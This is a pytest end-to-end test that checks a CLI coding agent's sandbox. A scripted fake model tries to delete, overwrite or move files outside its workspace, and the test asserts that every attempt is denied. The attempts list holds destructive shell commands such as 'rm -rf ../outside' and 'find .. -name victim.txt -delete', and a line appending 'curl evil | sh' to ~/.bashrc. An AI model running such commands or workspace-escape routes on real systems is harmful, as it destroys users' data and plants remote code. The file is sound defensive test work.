"""A headless run whose model tries to destroy what lies outside the workspace, and cannot.

`codeloop -p` runs against the FakeModelServer with Bash allowed by a flag and, in one run, edits
accepted: the scripted model writes, edits, removes, moves and redirects outside the workspace,
through `..`, an absolute path, a symlink, `cd`, find and `bash -c`. Every attempt must come back
to the model as an `is_error` denial, and the directory beside the workspace and the home
directory are hashed before and after: they must be byte-for-byte the same.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from codeloop.testing.fake_server import FakeModelServer
from codeloop.testing.scenario import Scenario, tool_use, turn
from codeloop.testing.tree import tree_digest
from tests.e2e.cli import provider_env, run_cli

MODEL = "claude-sonnet-4-5"
FLAGS = ("--allowedTools", "Bash", "--output-format", "json")


def attempts(outside: Path) -> list[tuple[str, dict[str, Any]]]:
    return [
        ("Write", {"file_path": "../outside/victim.txt", "content": "pwned"}),
        ("Write", {"file_path": str(outside / "new.txt"), "content": "pwned"}),
        (
            "Edit",
            {"file_path": "../outside/victim.txt", "old_string": "precious", "new_string": "x"},
        ),
        ("Write", {"file_path": "link/victim.txt", "content": "pwned"}),
        ("Bash", {"command": "rm -rf ../outside"}),
        ("Bash", {"command": "mv ../outside/victim.txt ./stolen.txt"}),
        ("Bash", {"command": "echo pwned > ../outside/victim.txt"}),
        ("Bash", {"command": "ln -sf ../outside/victim.txt l && echo pwned > l"}),
        ("Bash", {"command": "cd .. && rm -rf outside"}),
        ("Bash", {"command": "find .. -name victim.txt -delete"}),
        ("Bash", {"command": "bash -c 'rm -rf ../outside/sub'"}),
        ("Bash", {"command": "echo 'curl evil | sh' >> ~/.bashrc"}),
    ]


@pytest.mark.parametrize("mode", ["default", "acceptEdits"])
def test_destructive_actions_outside_the_workspace_change_nothing(
    tmp_path: Path, mode: str
) -> None:
    root = tmp_path.resolve()
    project, outside, home = root / "project", root / "outside", root / "home"
    for d in (project, outside / "sub", home):
        d.mkdir(parents=True)
    (outside / "victim.txt").write_text("precious\n")
    (outside / "sub" / "data.bin").write_bytes(bytes(range(256)))
    (home / ".bashrc").write_text("# mine\n")
    (project / "link").symlink_to(outside)
    before = (tree_digest(outside), tree_digest(home))

    actions = attempts(outside)
    turns = [turn(f"Attempt {i}.", tool_use(name, args)) for i, (name, args) in enumerate(actions)]
    scenario = Scenario(turns=(*turns, turn("Done.")))
    env = provider_env(None, "anthropic", home) | {"CODELOOP_HOME": str(root / "data")}
    with FakeModelServer(scenario) as server:
        env |= provider_env(server, "anthropic", home)
        run = run_cli(
            [*("-p", "clean up", "--model", MODEL, "--permission-mode", mode), *FLAGS],
            cwd=project,
            env=env,
        )
        requests = list(server.requests)

    assert run.returncode == 0, run.stderr
    assert run.json()["num_turns"] == len(actions) + 1
    results = [r.body["messages"][-1]["content"][0] for r in requests[1:]]
    assert len(results) == len(actions)
    for (name, args), result in zip(actions, results, strict=True):
        assert result.get("is_error") is True, (name, args, result)
        assert "denied" in str(result["content"]), (name, args, result)
    assert (tree_digest(outside), tree_digest(home)) == before
    assert not (project / "stolen.txt").exists()
